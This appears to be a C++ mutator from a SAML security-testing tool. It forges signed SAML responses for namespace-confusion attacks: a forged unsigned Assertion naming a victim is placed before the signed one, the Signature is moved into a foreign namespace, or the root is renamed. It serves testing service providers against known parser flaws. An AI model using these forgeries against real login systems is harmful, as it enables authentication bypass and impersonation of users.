// SPDX-License-Identifier: Apache-2.0
// parser.namespace_wrong — the expected local name in a foreign namespace (attack-catalogue
// PD-NS-WRONG: xml-crypto's local-name() XPath before 0.5.27, samlify's
// contains(local-name(),'Response') selector). Namespaces in XML §2 / saml-core §2.3.3: an element
// is identified by its namespace name and local name together; an SP that selects by local name
// alone picks the forged Assertion placed before the signed one, or a Signature the verifier never
// checked.
#include "mutators/c14n/c14n.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// Rebinds the declarations on `element` that name `from` to `to`; what used them follows.
bool rebind(xmlNode* element, std::string_view from, std::string_view to) {
  bool done = false;
  for (xmlNs* ns = element->nsDef; ns != nullptr; ns = ns->next) {
    if (ns->href != nullptr && from == reinterpret_cast<const char*>(ns->href)) {
      xmlFree(const_cast<xmlChar*>(ns->href));
      ns->href = xmlStrdup(BAD_CAST std::string(to).c_str());
      done = true;
    }
  }
  return done;
}

}  // namespace

// Params: form (assertion_foreign_ns: a forged victim Assertion in namespace urn:evil before the
// signed one | assertion_saml1_ns: the same in the SAML 1.0 assertion namespace |
// signature_foreign_ns: the signed Assertion's Signature moved into urn:evil |
// fake_response_root: the root renamed samlp:FakeResponse; default assertion_foreign_ns), victim.
core::Result<void> parser_namespace_wrong(Target& target) {
  auto form_param = string_param(target, "form");
  auto victim = victim_of(target);
  if (!form_param || !victim) {
    return core::fail(!form_param ? form_param.error() : victim.error());
  }
  std::string form = form_param->value_or("assertion_foreign_ns");
  xmlNode* response = target.doc->root();
  xmlNode* assertion = core::child_named(response, n::ns_assertion, "Assertion");
  if (assertion == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no Assertion");
  }
  if (form == "assertion_foreign_ns" || form == "assertion_saml1_ns") {
    xmlNode* forged = xmlDocCopyNode(assertion, target.doc->get(), 1);
    if (xmlNode* signature = core::child_named(forged, n::ns_dsig, "Signature")) {
      core::remove_node(signature);
    }
    write_victim(forged, *victim);
    core::set_attribute(forged, "ID", core::attribute(assertion, "ID").value_or("") + "_evil");
    rebind(forged, n::ns_assertion,
           form == "assertion_foreign_ns" ? "urn:evil" : "urn:oasis:names:tc:SAML:1.0:assertion");
    xmlAddPrevSibling(assertion, forged);
    return {};
  }
  if (form == "signature_foreign_ns") {
    xmlNode* signature = core::child_named(assertion, n::ns_dsig, "Signature");
    if (signature == nullptr || !rebind(signature, n::ns_dsig, "urn:evil")) {
      return core::fail(core::Reason::mutator_not_applicable, "the Assertion has no Signature declaring its namespace");
    }
    return {};
  }
  if (form == "fake_response_root") {
    xmlNodeSetName(response, BAD_CAST "FakeResponse");
    return {};
  }
  return core::fail(core::Reason::mutator_params_invalid,
                    "/form: expected assertion_foreign_ns, assertion_saml1_ns, signature_foreign_ns or fake_response_root");
}

}  // namespace samlt::idp::mutators
